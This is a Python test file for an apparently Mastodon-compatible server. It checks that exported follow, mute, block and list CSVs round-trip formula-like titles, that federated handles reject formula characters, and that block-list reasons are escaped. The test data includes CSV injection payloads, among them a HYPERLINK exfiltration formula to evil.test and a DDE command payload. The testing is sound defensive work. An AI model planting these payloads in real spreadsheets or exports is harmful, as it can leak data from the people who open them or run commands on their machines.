"""Tables that are taken along, where a cell begins as a formula does.

A table of somebody's own is written as Mastodon writes it, with nothing put before such a cell: it must come
back as it was, here and there. Names and hosts, which others choose, cannot hold what does harm in a formula.
"""

from __future__ import annotations

import pytest

from echo.actions import blocks, follows, lists
from echo.actions.lists import ListDraft
from echo.kinds_of_moving import ImportKind
from echo.models import List
from echo.policy import block_lists
from federation import handles
from tests import make
from tests.api.asking import Api
from tests.api.test_moving import bring, take, work

TITLES = (
    "=1+1",
    '=HYPERLINK("https://evil.test/?"&A1,"tea")',
    "=cmd|' /C calc'!A0",
    "+1",
    "-1",
    "@SUM(1)",
    "'=1",
    "''",
    '"',
    "tea, =1",
)


async def test_what_looks_like_a_formula_comes_back_as_it_was(api: Api) -> None:
    alice, fresh, bob = await make.person("alice"), await make.person("fresh"), await make.person("bob")
    odd = [await make.stranger(name, "far.test") for name in ("=1+1", "+1", "-1")]
    for one in odd:
        await make.follow(alice, one)
        await blocks.mute(alice.id, one.id)
    for title in TITLES:
        made = await lists.create(alice.id, ListDraft(title=title))
        await lists.add_members(alice.id, made.id, [odd[0].id])
    await blocks.block(alice.id, bob.id)
    kinds = (ImportKind.FOLLOWS, ImportKind.MUTES, ImportKind.BLOCKS, ImportKind.LISTS)
    files = {kind: await take(api, alice, kind) for kind in kinds}
    assert files[ImportKind.FOLLOWS].splitlines()[1] == "=1+1@far.test,true,false,"
    assert "\n=1+1,=1+1@far.test\n" in f"\n{files[ImportKind.LISTS]}"
    for kind, text in files.items():
        await work(await bring(api, fresh, text, kind=kind.value))
        if kind is ImportKind.FOLLOWS:
            for one in odd:
                await follows.receive_accept(one, follower_id=fresh.id)
    for kind, text in files.items():
        # Rows are done several at a time.
        assert sorted((await take(api, fresh, kind)).splitlines()) == sorted(text.splitlines())
    assert {row.title for row in await List.filter(account_id=fresh.id)} == set(TITLES)


@pytest.mark.parametrize("needed", " !\"'/\\:#<>?")
def test_no_name_elsewhere_holds_what_a_formula_needs_to_do_harm(needed: str) -> None:
    """Whom to call, a text, an address, another sheet. And after every name stands @ and a host."""
    assert handles.parse(f"=cmd{needed}A@far.test") is None
    assert handles.parse(f"=cmd@far{needed}A.test") is None


def test_reasons_of_blocks_are_marked_and_come_back_without_the_mark() -> None:
    """They may come from lists of others, and administrators open them: no spreadsheet sees a formula."""
    reasons = [*TITLES, "-", "'", "'-", "''=1", "spam", ""]
    entries = tuple(
        block_lists.Entry(domain=f"a{number}.test", reason=reason) for number, reason in enumerate(reasons)
    )
    text = block_lists.write(entries)
    rows = [line.split(",", 4)[4] for line in text.splitlines()[1:]]
    assert not [row for row in rows if row.lstrip('"')[:1] in ("=", "+", "-", "@")]
    assert [entry.reason for entry in block_lists.read(text).entries] == reasons
    assert block_lists.write(block_lists.read(text).entries) == text
    # What Mastodon has written has no marks.
    theirs = (
        "#domain,#severity,#reject_media,#reject_reports,#public_comment,#obfuscate\na.test,silence,,,=1,\n"
    )
    assert block_lists.read(theirs).entries[0].reason == "=1"
